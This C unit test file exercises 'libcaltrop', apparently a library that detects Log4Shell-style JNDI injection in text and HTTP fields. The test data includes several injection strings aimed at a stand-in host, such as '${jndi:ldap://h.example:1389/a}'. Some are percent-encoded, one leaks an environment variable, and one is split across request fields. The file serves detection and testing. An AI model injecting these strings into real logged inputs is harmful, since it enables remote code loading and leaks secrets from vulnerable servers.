/* libcaltrop through its public header alone. */
#include <caltrop/caltrop.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

static const caltrop_verdict *judge(caltrop_judge *j, const char *text)
{
    const caltrop_verdict *v = NULL;
    assert_int_equal(caltrop_judge_text(j, text, strlen(text), &v), CALTROP_OK);
    return v;
}

static int same(caltrop_text t, const char *want) { return t.n == strlen(want) && memcmp(t.p, want, t.n) == 0; }

static void verdict_tells_all(void **state)
{
    (void)state;
    caltrop_judge *j = caltrop_judge_new();
    const caltrop_verdict *v = judge(j, "%24%7Bjndi:ldap://h.example:1389/a%7D");
    assert_int_equal(caltrop_verdict_grade(v), CALTROP_EXPLOIT);
    assert_string_equal(caltrop_grade_name(caltrop_verdict_grade(v)), "exploit");
    assert_int_equal(caltrop_verdict_certainty(v), CALTROP_CERTAIN);
    assert_int_equal(caltrop_verdict_traits(v), 0);
    assert_true(same(caltrop_verdict_normal(v), "${jndi:ldap://h.example:1389/a}"));
    assert_true(same(caltrop_verdict_field(v), "text"));
    assert_int_equal(caltrop_verdict_chain_count(v), 1);
    assert_string_equal(caltrop_verdict_chain(v, 0), "percent");
    assert_null(caltrop_verdict_chain(v, 1));
    assert_int_equal(caltrop_verdict_indicator_count(v), 1);
    caltrop_indicator k = caltrop_verdict_indicator(v, 0);
    assert_true(same(k.scheme, "ldap") && same(k.host, "h.example") && k.port == 1389);
    assert_int_equal(caltrop_verdict_indicator(v, 1).host.n, 0);
    assert_true(caltrop_verdict_fires_count(v) > 0 && caltrop_verdict_calls(v) > 0);
    assert_null(caltrop_verdict_fires(v, 99).sink);
    assert_int_equal(caltrop_verdict_condition(v, 0).n, 0);
    v = judge(j, "${jndi:ldap://${env:USER}.h.example/a}");
    assert_int_equal(caltrop_verdict_certainty(v), CALTROP_CONDITIONAL);
    assert_true(caltrop_verdict_traits(v) & CALTROP_TRAIT_LEAK);
    assert_int_equal(caltrop_verdict_condition_count(v), 1);
    assert_true(same(caltrop_verdict_condition(v, 0), "env:USER"));
    caltrop_judge_free(j);
}

static void settings_hold_and_refusals_leave_the_verdict(void **state)
{
    (void)state;
    caltrop_judge *j = caltrop_judge_new();
    assert_int_equal(caltrop_judge_set_version(j, "2.17.1"), CALTROP_OK);
    assert_int_equal(caltrop_verdict_grade(judge(j, "${jndi:ldap://h.example/a}")), CALTROP_ATTEMPT);
    assert_int_equal(caltrop_judge_set_version(j, "no release"), CALTROP_UNKNOWN_VERSION);
    assert_int_equal(caltrop_judge_set_version(j, NULL), CALTROP_OK);
    caltrop_judge_set_decoding(j, 0);
    assert_int_equal(caltrop_verdict_grade(judge(j, "%24%7Bjndi:ldap://h.example/a%7D")), CALTROP_NONE);

    static const char big[64 * 1024 + 1];
    const caltrop_verdict *v = (const caltrop_verdict *)(const void *)big;
    assert_int_equal(caltrop_judge_text(j, big, sizeof big, &v), CALTROP_TOO_MANY);
    assert_ptr_equal(v, big);
    caltrop_judge_free(j);
    caltrop_judge_free(NULL);
}

static void fields_are_composed(void **state)
{
    (void)state;
    caltrop_judge *j = caltrop_judge_new();
    const caltrop_field fields[] = {{"url.original", {"/?x=${jndi:ldap://h.example/a", 28}}, {"user_agent.original", {"b}", 2}}};
    const caltrop_verdict *v = NULL;
    assert_int_equal(caltrop_judge_fields(j, fields, 2, &v), CALTROP_OK);
    assert_int_equal(caltrop_verdict_grade(v), CALTROP_EXPLOIT);
    assert_true(caltrop_verdict_traits(v) & CALTROP_TRAIT_COMPOSED);
    assert_true(caltrop_may_matter("${", 2) && !caltrop_may_matter("GET / HTTP/1.1", 14));
    caltrop_judge_free(j);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(verdict_tells_all),
        cmocka_unit_test(settings_hold_and_refusals_leave_the_verdict),
        cmocka_unit_test(fields_are_composed),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
